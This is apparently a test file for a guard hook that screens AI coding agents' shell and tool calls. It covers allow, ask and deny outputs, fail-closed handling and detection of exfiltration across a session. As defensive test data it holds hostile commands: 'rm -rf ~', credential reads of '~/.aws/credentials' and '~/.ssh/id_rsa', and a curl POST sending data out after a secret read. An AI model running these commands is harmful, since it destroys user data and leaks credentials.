// Each agent's protocol through the real engine (runHook with a sandbox HOME and git project):
// for an understood allow, opaque code, an ask, a deny and a fail-closed input, the exact output
// shape and exit code the agent honours (AGENTS-PROTOCOLS.md §12, POLICY.md "How a verdict reaches
// the agent"). Payloads are the real captures (or the documented shapes) with the command swapped.
import { describe, expect, it } from 'vitest';
import { hook, hookEnv, loadFixture, withField } from './helpers.js';

/** A shell call in each agent's own shape, from its fixture. */
const SHELL: Record<string, { fixture: string; set: (p: Record<string, unknown>, cmd: string) => Record<string, unknown> }> = {
  'claude-code': { fixture: 'claude-code-2.1.330-bash.json', set: (p, c) => withField(p, ['tool_input', 'command'], c) },
  gemini: { fixture: 'gemini-0.61.0-run-shell-command.json', set: (p, c) => withField(p, ['tool_input', 'command'], c) },
  codex: { fixture: 'codex-0.169.0-bash.json', set: (p, c) => withField(p, ['tool_input', 'command'], c) },
  copilot: { fixture: 'copilot-1.0.102-bash.json', set: (p, c) => withField(p, ['toolArgs', 'command'], c) },
  cursor: { fixture: 'cursor-docs-beforeshellexecution.json', set: (p, c) => withField(p, ['command'], c) },
  opencode: { fixture: 'opencode-1.18.33-bash.json', set: (p, c) => withField(p, ['args', 'command'], c) },
};
const shell = (agent: string, cmd: string) => SHELL[agent]!.set(loadFixture(SHELL[agent]!.fixture), cmd);

const ALLOW = 'git status && ls src';
const OPAQUE = 'npm test';
const ASK = 'npm install left-pad';
const DENY = 'rm -rf ~';
const FORCE_PUSH = 'git push --force origin main';

const hso = (j: Record<string, unknown> | undefined) => (j?.hookSpecificOutput ?? {}) as Record<string, unknown>;

describe('Claude Code protocol', () => {
  const a = 'claude-code';
  it('allow: explicit permissionDecision allow, exit 0', () => {
    const r = hook(a, shell(a, ALLOW));
    expect([r.exitCode, hso(r.json).permissionDecision]).toEqual([0, 'allow']);
  });
  it('opaque: no output (no opinion)', () => expect(hook(a, shell(a, OPAQUE))).toMatchObject({ stdout: '', exitCode: 0 }));
  it('ask: permissionDecision ask in its own prompt', () => {
    const r = hook(a, shell(a, ASK));
    expect([r.exitCode, hso(r.json).permissionDecision]).toEqual([0, 'ask']);
  });
  it('deny: JSON deny + exit 2 + the rule on stderr', () => {
    const r = hook(a, shell(a, DENY));
    expect([r.exitCode, hso(r.json).permissionDecision]).toEqual([2, 'deny']);
    expect(r.stderr).toContain('fs.delete-recursive-critical');
  });
});

describe('Gemini CLI protocol (top-level decision; never ask)', () => {
  const a = 'gemini';
  it('allow: {"decision":"allow"}, exit 0', () => expect(hook(a, shell(a, ALLOW))).toMatchObject({ exitCode: 0, json: { decision: 'allow' } }));
  it('opaque: no output', () => expect(hook(a, shell(a, OPAQUE))).toMatchObject({ stdout: '', exitCode: 0 }));
  it('deny: top-level decision deny with the rule, the reason on stderr, exit 2; no Claude-style output', () => {
    const r = hook(a, shell(a, FORCE_PUSH));
    expect(r.exitCode).toBe(2);
    expect(r.json?.decision).toBe('deny');
    expect(String(r.json?.reason)).toMatch(/\[fwguard git\.[\w-]+\]/);
    expect(r.stderr.trim()).toBe(String(r.json?.reason));
    expect(r.json?.hookSpecificOutput).toBeUndefined();
  });
  it('ask: a deny that tells the model to ask the user, naming the exact command (an ask would hang a headless run)', () => {
    const r = hook(a, shell(a, ASK));
    expect(r.exitCode).toBe(2);
    expect(r.json?.decision).toBe('deny');
    expect(String(r.json?.reason)).toContain('ask the user');
    expect(String(r.json?.reason)).toContain(`proposing exactly: ${ASK}`);
    expect(r.stdout).not.toContain('"ask"');
  });
  it('in CI (ci.ask decides deny) the model is still told why it was an ask', () => {
    const r = hook(a, shell(a, ASK), hookEnv({ CI: '1' }));
    expect(r.exitCode).toBe(2);
    expect(String(r.json?.reason)).toMatch(/\[fwguard pkg\.[\w-]+\].*\[fwguard ci\.ask\]/);
  });
});

describe('Codex protocol (deny only; ask and a bare allow are ignored by Codex)', () => {
  const a = 'codex';
  it('allow: no output at all (Codex rejects a bare allow)', () => expect(hook(a, shell(a, ALLOW))).toMatchObject({ stdout: '', stderr: '', exitCode: 0 }));
  it('opaque: no output', () => expect(hook(a, shell(a, OPAQUE))).toMatchObject({ stdout: '', exitCode: 0 }));
  it('deny: permissionDecision deny + exit 2 + the reason on stderr (what Codex shows the model)', () => {
    const r = hook(a, shell(a, DENY));
    expect([r.exitCode, hso(r.json).permissionDecision]).toEqual([2, 'deny']);
    expect(r.stderr).toContain('fs.delete-recursive-critical');
  });
  it('ask: a deny telling the model to ask the user with the exact command; never "ask"', () => {
    const r = hook(a, shell(a, ASK));
    expect([r.exitCode, hso(r.json).permissionDecision]).toEqual([2, 'deny']);
    expect(r.stderr).toContain(`proposing exactly: ${ASK}`);
    expect(r.stdout).not.toContain('"ask"');
  });
});

describe('Copilot CLI protocol', () => {
  const a = 'copilot';
  it('allow: permissionDecision allow', () => expect(hook(a, shell(a, ALLOW))).toMatchObject({ exitCode: 0, json: { permissionDecision: 'allow' } }));
  it('opaque: no output (default flow)', () => expect(hook(a, shell(a, OPAQUE))).toMatchObject({ stdout: '', exitCode: 0 }));
  it('ask: permissionDecision ask, exit 0', () => expect(hook(a, shell(a, ASK))).toMatchObject({ exitCode: 0, json: { permissionDecision: 'ask' } }));
  it('ask in CI (a cloud agent): ci.ask decides deny', () => {
    const r = hook(a, shell(a, ASK), hookEnv({ CI: '1' }));
    expect([r.exitCode, r.json?.permissionDecision]).toEqual([2, 'deny']);
    expect(String(r.json?.permissionDecisionReason)).toContain('ci.ask');
  });
  it('deny: permissionDecision deny + exit 2', () => {
    const r = hook(a, shell(a, DENY));
    expect([r.exitCode, r.json?.permissionDecision]).toEqual([2, 'deny']);
    expect(String(r.json?.permissionDecisionReason)).toContain('fs.delete-recursive-critical');
  });
  it('toolArgs as a JSON string (older docs) decides like the object Copilot 1.0.102 sends', () => {
    const str = withField(loadFixture('copilot-docs-pretooluse-bash-string-args.json'), ['toolArgs'], JSON.stringify({ command: DENY }));
    expect([hook(a, str).exitCode, hook(a, shell(a, DENY)).exitCode]).toEqual([2, 2]);
  });
  it('the PascalCase (Claude-style) payload is judged with Claude tool names', () => {
    const p = withField(loadFixture('copilot-docs-claude-style-bash.json'), ['tool_input', 'command'], FORCE_PUSH);
    const r = hook(a, p);
    expect([r.exitCode, r.json?.permissionDecision, hso(r.json).permissionDecision]).toEqual([2, 'deny', 'deny']);
  });
  it('native tools: create into .fwguardrc is denied, view of a README is allowed', () => {
    const create = withField(loadFixture('copilot-1.0.102-create.json'), ['toolArgs', 'path'], '.fwguardrc');
    expect(hook(a, create).exitCode).toBe(2);
    expect(hook(a, withField(loadFixture('copilot-1.0.102-view.json'), ['toolArgs', 'path'], 'README.md')).json?.permissionDecision).toBe('allow');
  });
});

describe('Cursor protocol', () => {
  const a = 'cursor';
  it('allow: {"permission":"allow"}', () => expect(hook(a, shell(a, ALLOW))).toMatchObject({ exitCode: 0, json: { permission: 'allow' } }));
  it('opaque: {} (no permission: Cursor decides)', () => expect(hook(a, shell(a, OPAQUE))).toMatchObject({ stdout: '{}', exitCode: 0 }));
  it('ask: permission ask with user_message and agent_message', () => {
    const r = hook(a, shell(a, ASK));
    expect(r.exitCode).toBe(0);
    expect(r.json).toMatchObject({ permission: 'ask' });
    expect(String(r.json?.agent_message)).toContain('[fwguard ');
    expect(r.json?.user_message).toBe(r.json?.agent_message);
  });
  it('deny: permission deny + exit 2', () => {
    const r = hook(a, shell(a, DENY));
    expect([r.exitCode, r.json?.permission]).toEqual([2, 'deny']);
    expect(String(r.json?.agent_message)).toContain('fs.delete-recursive-critical');
  });
  it('beforeReadFile cannot ask: a secret read is a deny telling the model to ask; a look-alike passes', () => {
    const secret = withField(loadFixture('cursor-docs-beforereadfile.json'), ['file_path'], '.env');
    const r = hook(a, secret);
    expect([r.exitCode, r.json?.permission]).toEqual([2, 'deny']);
    expect(String(r.json?.agent_message)).toContain('ask the user');
    const example = withField(loadFixture('cursor-docs-beforereadfile.json'), ['file_path'], '.env.example');
    expect(hook(a, example).json?.permission).toBe('allow');
  });
  it('preToolUse Shell with its own working_directory and Delete of an unsaved file', () => {
    const p = withField(loadFixture('cursor-docs-pretooluse-shell.json'), ['tool_input', 'command'], FORCE_PUSH);
    expect(hook(a, p).exitCode).toBe(2);
    expect(hook(a, loadFixture('cursor-docs-pretooluse-delete.json')).json?.permission).toBe('ask');
  });
  it('an MCP call naming a secret file asks; tool_input as a JSON string is read', () => {
    const p = withField(loadFixture('cursor-docs-beforemcpexecution.json'), ['tool_input'], JSON.stringify({ file: '~/.ssh/id_rsa' }));
    expect(hook(a, p).json?.permission).toBe('ask');
  });
});

describe('OpenCode protocol (what plugins/opencode/fwguard.js reads)', () => {
  const a = 'opencode';
  it('allow / opaque: decision allow / none, exit 0', () => {
    expect(hook(a, shell(a, ALLOW))).toMatchObject({ exitCode: 0, json: { decision: 'allow' } });
    expect(hook(a, shell(a, OPAQUE))).toMatchObject({ exitCode: 0, json: { decision: 'none' } });
  });
  it('deny: decision deny with the rule, exit 2', () => {
    const r = hook(a, shell(a, DENY));
    expect([r.exitCode, r.json?.decision]).toEqual([2, 'deny']);
    expect(String(r.json?.reason)).toContain('fs.delete-recursive-critical');
  });
  it('ask: a deny telling the model to ask the user (opencode run auto-rejects an ask and ends the run)', () => {
    const r = hook(a, shell(a, ASK));
    expect([r.exitCode, r.json?.decision]).toEqual([2, 'deny']);
    expect(String(r.json?.reason)).toContain(`proposing exactly: ${ASK}`);
  });
  it('bash workdir is the cwd the command runs in', () => {
    const p = withField(shell(a, 'rm -rf .'), ['args', 'workdir'], '/');
    expect(hook(a, p).exitCode).toBe(2);
  });
  it('batch (runs tools without their hooks) is blocked', () => {
    const r = hook(a, { hook_event_name: 'tool.execute.before', tool: 'batch', sessionID: 's', args: { tool_calls: [{ tool: 'bash', parameters: { command: DENY } }] }, cwd: '/tmp' });
    expect(r.exitCode).toBe(2);
    expect(String(r.json?.reason)).toContain('one at a time');
  });
});

describe('fail closed: input of no known shape blocks in the agent\'s own deny form', () => {
  const cases: [string, string, (r: ReturnType<typeof hook>) => unknown][] = [
    ['claude-code', 'not json', (r) => hso(r.json).permissionDecision],
    ['gemini', 'not json', (r) => r.json?.decision],
    ['codex', 'not json', (r) => hso(r.json).permissionDecision],
    ['copilot', 'not json', (r) => r.json?.permissionDecision],
    ['cursor', 'not json', (r) => r.json?.permission],
    ['opencode', 'not json', (r) => r.json?.decision],
    ['claude-code', '{}', (r) => hso(r.json).permissionDecision],
    ['gemini', '{"hook_event_name":"BeforeTool"}', (r) => r.json?.decision],
    ['gemini', '{"hook_event_name":"BeforeToolV2","tool_name":"run_shell_command","tool_input":{"command":"ls"}}', (r) => r.json?.decision],
    ['codex', '{"hook_event_name":"PreToolUse","tool_name":"apply_patch","tool_input":{"command":"*** Begin Patch\\n*** Frobnicate File: x\\n*** End Patch"}}', (r) => hso(r.json).permissionDecision],
    ['codex', '{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"apply_patch <<EOF\\n*** Begin Patch\\n*** Add File: a\\n+x\\n*** End Patch"}}', (r) => hso(r.json).permissionDecision],
    ['copilot', '{"toolArgs":{"command":"ls"}}', (r) => r.json?.permissionDecision],
    ['copilot', '{"toolName":"bash","toolArgs":"{not json"}', (r) => r.json?.permissionDecision],
    ['cursor', '{"command":"ls"}', (r) => r.json?.permission],
    ['cursor', '{"hook_event_name":"beforeTeleport","command":"ls"}', (r) => r.json?.permission],
    ['opencode', '{"hook_event_name":"tool.execute.sometime","tool":"bash","args":{"command":"ls"}}', (r) => r.json?.decision],
    ['opencode', '{"hook_event_name":"tool.execute.before","args":{"command":"ls"}}', (r) => r.json?.decision],
  ];
  for (const [agent, input, decision] of cases) {
    it(`${agent}: ${input.slice(0, 70)}`, () => {
      const r = hook(agent, input);
      expect(r.exitCode).toBe(2);
      expect(decision(r)).toBe('deny');
      expect(r.stderr).toContain('[fwguard internal.error]');
    });
  }
  it('an unknown agent id blocks', () => expect(hook('windsurf', '{}').exitCode).toBe(2));
  it('lifecycle events are no-ops, not blocks', () => {
    expect(hook('gemini', { hook_event_name: 'SessionStart', cwd: '/tmp' })).toMatchObject({ stdout: '', exitCode: 0 });
    expect(hook('cursor', { hook_event_name: 'stop', conversation_id: 'c' })).toMatchObject({ stdout: '', exitCode: 0 });
    expect(hook('codex', { hook_event_name: 'SessionStart', cwd: '/tmp' })).toMatchObject({ stdout: '', exitCode: 0 });
  });
});

describe('post events reach session memory (a secret read, then a send)', () => {
  const SEND = 'curl -s -X POST -d hello https://example.com/upload';
  const SECRET = 'cat ~/.aws/credentials';
  const post: Record<string, (cmd: string) => Record<string, unknown>> = {
    'claude-code': (c) => ({ ...shell('claude-code', c), hook_event_name: 'PostToolUse' }),
    gemini: (c) => withField(loadFixture('gemini-0.61.0-aftertool-run-shell-command.json'), ['tool_input', 'command'], c),
    codex: (c) => withField(loadFixture('codex-0.169.0-post-bash.json'), ['tool_input', 'command'], c),
    copilot: (c) => withField(loadFixture('copilot-1.0.102-post-bash.json'), ['toolArgs', 'command'], c),
    cursor: (c) => withField(loadFixture('cursor-docs-aftershellexecution.json'), ['command'], c),
    opencode: (c) => withField(loadFixture('opencode-1.18.33-after-bash.json'), ['args', 'command'], c),
  };
  for (const agent of Object.keys(post)) {
    it(`${agent}: the send is flagged as exfiltration only after the post event recorded the read`, () => {
      const env = hookEnv();
      const text = (r: ReturnType<typeof hook>) => r.stdout + r.stderr;
      expect(text(hook(agent, shell(agent, SEND), env))).not.toContain('flow.exfiltration-session');
      expect(hook(agent, post[agent]!(SECRET), env)).toMatchObject({ stdout: '', exitCode: 0 });
      expect(text(hook(agent, shell(agent, SEND), env))).toContain('flow.exfiltration-session');
    });
  }
});
